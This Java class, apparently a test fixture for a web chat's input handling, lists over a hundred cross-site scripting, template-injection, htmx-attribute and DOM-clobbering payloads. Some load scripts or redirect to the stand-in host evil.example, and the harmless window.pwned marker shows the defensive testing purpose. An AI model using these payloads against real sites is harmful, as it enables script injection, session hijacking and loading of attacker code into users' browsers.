package dev.fenliu.webchat;

import java.util.List;
import java.util.stream.Stream;

/** What somebody writes who wants it to be more than text; whatever of it runs sets {@code window.pwned}. */
final class HostileWords {
    private static final String RUN = "window.pwned=1";

    /** One of each kind. */
    static final List<String> SHORT = Stream.of(
                    "<script>%s</script>",
                    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
                    "<img src=x onerror=%s>",
                    "<svg onload=%s>",
                    "<svg><animate onbegin=%s attributeName=x>",
                    "<math><mtext><table><mglyph><style><img src=x onerror=%s>",
                    "<iframe srcdoc='<script>parent.%s</script>'>",
                    "<object data=javascript:%s>",
                    "<embed src=javascript:%s>",
                    "<form action=javascript:%s><button>x",
                    "<input autofocus onfocus=%s>",
                    "<details open ontoggle=%s>",
                    "<a href=javascript:%s>x</a>",
                    "<base href=//evil.example/>",
                    "<meta http-equiv=refresh content='0;url=//evil.example'>",
                    "<link rel=stylesheet href=//evil.example/x.css>",
                    "<style>*{background:url(//evil.example)}</style>",
                    "<body onload=%s>",
                    "<template><script>%s</script></template>",
                    "</textarea><script>%s</script>",
                    "</title><script>%s</script>",
                    "--><script>%s</script><!--",
                    "]]><script>%s</script>",
                    "\"><img src=x onerror=%s>",
                    "' onmouseover='%s",
                    "\" autofocus onfocus=\"%s",
                    "` onclick=`%s`",
                    "javascript:%s",
                    "JaVa\tScRiPt:%s",
                    "data:text/html,<script>%s</script>",
                    "vbscript:%s",
                    "https://a.example\"onmouseover=\"%s",
                    "https://a.example/<script>%s</script>",
                    "https://javascript:%s@a.example/",
                    "http://a.example/?q=javascript:%s",
                    "[x](javascript:%s)",
                    "![x](javascript:%s)",
                    "[[${7*7}]] [(${T(java.lang.Runtime)})]",
                    "__${new java.util.Date()}__::.x",
                    "${{7*7}} #{T(java.lang.System)} *{x} @{/x} ~{x}",
                    "<div th:text='${7*7}' th:utext=x>",
                    "<div hx-get='/logout' hx-trigger=load>",
                    "<div data-hx-on:load=%s hx-on::load=%s>",
                    "<div sse-connect='/x' sse-swap=lines hx-ext=sse>",
                    "<img name=getElementById><form id=pane><input name=children>",
                    "<a id=desk></a><a id=lines></a>",
                    "&lt;script&gt;%s&lt;/script&gt; &#60;script>",
                    "\u202e<script>%s</script>\u202c",
                    "\u200b<\u200bscript>%s</script>",
                    "\uff1cscript\uff1e%s\uff1c/script\uff1e",
                    "<%%00script>%s</script>",
                    "{buyer}{shop}{agent}{{constructor.constructor('%s')()}}")
            .map(HostileWords::running)
            .toList();

    /** Every way in that is known, in a hundred and fifty spellings and more. */
    static final List<String> ALL = Stream.of(SHORT.stream(), handlers(), addresses(), attributes(), names())
            .flatMap(words -> words)
            .map(HostileWords::running)
            .distinct()
            .toList();

    private HostileWords() {}

    private static Stream<String> handlers() {
        return Stream.of(
                        "img src=x onerror",
                        "body onpageshow",
                        "video src=x onloadstart",
                        "audio src=x oncanplay",
                        "source onerror",
                        "marquee onstart",
                        "select autofocus onfocus",
                        "textarea autofocus onfocus",
                        "keygen autofocus onfocus",
                        "button onclick",
                        "div onpointerenter",
                        "p onmouseover",
                        "span onanimationstart",
                        "dialog open onclose",
                        "form onsubmit",
                        "input type=image src=x onerror",
                        "isindex onfocus",
                        "svg><script onload",
                        "svg/onload",
                        "svg><a><rect onclick",
                        "x contenteditable onblur",
                        "x tabindex=1 onfocusin",
                        "x oncopy",
                        "x onwheel",
                        "x onscrollend",
                        "x onbeforetoggle popover",
                        "frameset onload",
                        "table background=x onload",
                        "math><maction actiontype=statusline onclick",
                        "bgsound onpropertychange")
                .map(handler -> "<%s=%s>".formatted(handler, RUN));
    }

    private static Stream<String> addresses() {
        return Stream.of(
                        "<a href=\"%s\">x</a>",
                        "<form action=\"%s\"><input type=submit>",
                        "<iframe src=\"%s\">",
                        "<svg><use href=\"%s\"/>",
                        "<button formaction=\"%s\">x")
                .flatMap(carrier -> Stream.of(
                                "javascript:%s",
                                "&#106;avascript:%s",
                                "java&Tab;script:%s",
                                "\u0001javascript:%s",
                                "data:text/html;base64,PHNjcmlwdD4=",
                                "data:image/svg+xml,<svg onload=%s>",
                                "blob:%s",
                                "//evil.example")
                        .map(address -> carrier.replace("%s", address)));
    }

    private static Stream<String> attributes() {
        return Stream.of(
                        "hx-get=/logout",
                        "hx-post=/webchat",
                        "hx-trigger=load",
                        "hx-on:click=%s",
                        "hx-on--load=%s",
                        "hx-vals=js:%s",
                        "hx-headers=js:%s",
                        "data-hx-get=/x",
                        "data-hx-trigger=revealed",
                        "hx-swap-oob=true id=lines",
                        "sse-connect=/x",
                        "ws-connect=/x",
                        "th:text=${7*7}",
                        "th:onclick=%s",
                        "data-th-utext=${7*7}",
                        "th:replace=~{kit/head}",
                        "style=background:url(//evil.example)",
                        "is=x-y",
                        "slot=x",
                        "nonce=x")
                .map(attribute -> "\"><b " + attribute + ">x");
    }

    private static Stream<String> names() {
        return Stream.of(
                        "body",
                        "cookie",
                        "forms",
                        "location",
                        "htmx",
                        "_csrf",
                        "content",
                        "composer",
                        "messages",
                        "top")
                .map(name -> "<form name=%s><input name=%s id=%s>".formatted(name, name, name));
    }

    private static String running(String word) {
        return word.replace("%s", RUN);
    }
}
